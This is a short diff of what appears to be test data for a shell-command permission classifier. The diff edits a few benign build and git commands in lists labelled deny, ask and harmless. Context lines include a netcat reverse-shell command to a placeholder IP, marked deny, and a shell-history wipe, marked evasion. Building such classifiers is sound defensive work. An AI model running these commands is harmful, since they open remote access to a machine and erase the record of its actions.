@@ -25,7 +25,7 @@ PLAIN = [
     ("deny", "remote_access", "nc -e /bin/sh 203.0.113.7 4444"),
     ("ask", "privilege", "sudo chown root /usr/local/bin/tool"),
     ("ask", "evasion", "history -c"),
-    ("ask", "external_effects", "npm publish --access public"),
+    ("ask", "external_effects", "npm publish --tag canary"),
 ]
 
 # Writers: (name, template). FILE is the file, CODE the code.
@@ -123,7 +123,7 @@ HARMLESS = [
     "cat > build.sh <<'EOF'\\n#!/bin/sh\\ncargo build --release\\ncargo test\\nEOF\\nchmod +x build.sh && ./build.sh",
     "echo 'npm run lint' > lint.sh && sh lint.sh",
     "printf '#!/bin/sh\\nnpm test\\n' > t.sh; chmod +x t.sh; ./t.sh",
-    "tee check.sh <<< 'go vet ./...' > /dev/null; bash check.sh",
+    "tee check.sh <<< 'go vet ./internal/...' > /dev/null; bash check.sh",
     "echo 'make -j4' | tee b.sh && bash b.sh",
     "{ echo 'set -eu'; echo 'ls -la src'; } > list.sh; bash list.sh",
     "echo 'git status' > s.txt; cp s.txt s.sh; sh s.sh",
@@ -163,7 +163,7 @@ HARMLESS = [
     "alias grep='grep --color=auto'; grep -rn TODO src",
     "EDITOR=vim git commit",
     "PAGER=cat git log",
-    "GIT_PAGER=cat git diff --stat",
+    "GIT_PAGER=cat git diff --stat src/",
     "GIT_EDITOR=true git rebase --continue",
     "VISUAL='code --wait' git commit",
     "PAGER='less -R' git log",
